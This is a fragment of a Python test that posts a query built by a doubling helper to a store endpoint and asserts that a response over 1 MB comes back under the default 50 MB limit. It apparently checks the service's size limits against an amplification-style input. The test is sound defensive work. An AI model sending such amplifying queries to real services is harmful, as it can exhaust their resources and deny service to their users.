    with _endpoint(small_store) as url:  # the default, 50 MB, lets the 1 MB value through
        r = requests.post(url, data={"query": _doubling(16)}, timeout=60)
        assert r.status_code == 200 and len(r.content) > 1 << 20
